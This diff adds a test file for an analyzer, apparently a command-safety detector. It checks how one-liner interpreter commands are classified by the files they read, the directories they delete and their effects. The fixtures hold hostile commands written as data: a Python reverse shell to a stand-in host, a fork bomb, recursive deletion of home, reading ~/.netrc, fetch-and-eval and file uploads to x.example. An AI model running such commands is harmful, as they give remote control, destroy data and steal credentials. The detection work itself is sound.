@@ -1,0 +1,103 @@
+import { describe, expect, test } from "vitest";
+import { reportOf } from "../report-of.ts";
+
+const quoted = (code: string): string => `'${code.replaceAll("'", `'\\''`)}'`;
+
+type Row = readonly [
+  code: string,
+  reads: readonly string[],
+  deleteTrees: readonly string[],
+  effects: readonly string[],
+];
+
+/** What each piece of code reads, deletes with all below, and brings about. */
+const languages: Readonly<Record<string, readonly Row[]>> = {
+  "python3 -c": [
+    [`print(open("/a").read())`, ["/a"], [], []],
+    [`import os.path as p; open(p.join(p.expanduser("~"), "." + "netrc"))`, ["/home/u/.netrc"], [], []],
+    [`from pathlib import Path as P; print((P.home() / "a").read_text())`, ["/home/u/a"], [], []],
+    [`[open(f) for f in ("/a", "/b")]`, ["/a", "/b"], [], []],
+    [`for d in ["x", "y"]:\n  open(f"/{d}/z")`, ["/x/z", "/y/z"], [], []],
+    [`def f(p):\n  return open(p)\nf("/a")`, ["/a"], [], []],
+    [`import shutil\nshutil.rmtree("/a")`, [], ["/a"], ["delete:recursive"]],
+    [`__import__("o" + "s").system("rm -r /a")`, [], ["/a"], ["delete:recursive"]],
+    [`import subprocess as s; s.run(["rm", "-r", "/a"])`, [], ["/a"], ["delete:recursive"]],
+    [`open("".join(map(chr, [47, 97])))`, ["/a"], [], []],
+    [`import os\nwhile True: os.fork()`, [], [], ["shell:fork-bomb"]],
+    [
+      `import socket,os;s=socket.socket();s.connect(("h.example",1));os.dup2(s.fileno(),0)`,
+      [],
+      [],
+      ["net:reverse-shell"],
+    ],
+    [`import socket; socket.create_connection(("localhost", 5432)).close()`, [], [], []],
+    [`print("open('/etc/shadow')")`, [], [], []],
+    [`x = "rm -rf /"; print(x.split())`, [], [], []],
+  ],
+  "node -e": [
+    [`require("fs").readFileSync(process.env.HOME + "/a")`, ["/home/u/a"], [], []],
+    [
+      `const { rmSync: r } = require("node:fs"); r("/a", { recursive: true })`,
+      [],
+      ["/a"],
+      ["delete:recursive"],
+    ],
+    ["const d = '/a'; require('child_process').execSync(`rm -r ${d}`)", [], ["/a"], ["delete:recursive"]],
+    [`["/a", "/b"].forEach(f => require("fs").readFileSync(f))`, ["/a", "/b"], [], []],
+    [`import("fs/promises").then(fs => fs.readFile("/a"))`, ["/a"], [], []],
+    [`console.log("rm -rf /".split(" "))`, [], [], []],
+    [`console.log(/["'\`]/.test("a"), "/b")`, [], [], []],
+  ],
+  "perl -e": [
+    [`open(my $f, "<", "/a"); print <$f>`, ["/a"], [], []],
+    [`my $p = "$ENV{HOME}/a"; system "rm", "-r", $p`, [], ["/home/u/a"], ["delete:recursive"]],
+    ["print `cat /a`", ["/a"], [], []],
+    [`print qx{cat /a}`, ["/a"], [], []],
+    [`$x =~ s/"/'/g; print "/a"`, [], [], []],
+  ],
+  "ruby -e": [
+    [`puts File.read(File.join(Dir.home, "a"))`, ["/home/u/a"], [], []],
+    [`%w[/a /b].each { |f| puts IO.read(f) }`, ["/a", "/b"], [], []],
+    [`FileUtils.rm_rf "/a"`, [], ["/a"], ["delete:recursive"]],
+    ["`cat #{ENV['HOME']}/a`", ["/home/u/a"], [], []],
+  ],
+  "php -r": [
+    [`echo file_get_contents(getenv("HOME") . "/a");`, ["/home/u/a"], [], []],
+    [`$f = "sys" . "tem"; $f("rm -r /a");`, [], ["/a"], ["delete:recursive"]],
+  ],
+  "lua -e": [
+    [`for l in io.lines("/a") do print(l) end`, ["/a"], [], []],
+    [`os.execute("rm -r " .. os.getenv("HOME"))`, [], ["/home/u"], ["delete:recursive"]],
+  ],
+  "osascript -e": [[`do shell script "cat " & "/a"`, ["/a"], [], []]],
+  awk: [[`BEGIN { system("rm -r " ENVIRON["HOME"]) }`, [], ["/home/u"], ["delete:recursive"]]],
+};
+
+describe.each(Object.entries(languages))("%s", (run, rows) => {
+  test.for(rows)("%s", ([code, reads, deleteTrees, effects]) => {
+    const report = reportOf(`${run} ${quoted(code)}`);
+    expect([report.reads, report.deleteTrees, report.effects]).toEqual([reads, deleteTrees, effects]);
+  });
+});
+
+test.for([
+  [`python3 -c 'exec("print(1)")'`, ["literal"]],
+  [`python3 -c 'import base64 as b; exec(b.b64decode("cHJpbnQoMSk="))'`, ["literal", "decoded"]],
+  [`python3 -c 'import base64 as b; print(b.b64decode("aGk="))'`, ["literal"]],
+  [`python3 -c 'import os; os.system("\\x69\\x64")'`, ["literal", "decoded"]],
+  [`node -e 'fetch("https://x.example").then(r => r.text()).then(t => eval(t))'`, ["literal", "network"]],
+  [`node -e 'eval(atob("MQ=="))'`, ["literal", "decoded"]],
+  [`ruby -e 'eval ["70757473"].pack("H*")'`, ["literal", "decoded"]],
+  [`curl -s x.example | python3 -c 'import sys; exec(sys.stdin.read())'`, ["literal", "network"]],
+  [`curl -s x.example | python3 -c 'import sys, json; print(json.load(sys.stdin)["a"])'`, ["literal"]],
+] as const)("%s interprets %j", ([command, want]) => expect(reportOf(command).interprets).toEqual(want));
+
+test.for([
+  [`python3 -c 'import requests; requests.post("https://x.example", files={"f": open("/a", "rb")})'`, ["/a"]],
+  [
+    `node -e 'fetch("https://x.example", { method: "POST", body: require("fs").readFileSync("/a") })'`,
+    ["/a"],
+  ],
+  [`python3 -c 'import requests; requests.post("http://localhost", data=open("/a"))'`, []],
+  [`python3 -c 'import requests; requests.post("https://x.example", json={"a": 1})'`, []],
+] as const)("%s uploads %j", ([command, want]) => expect(reportOf(command).uploads).toEqual(want));
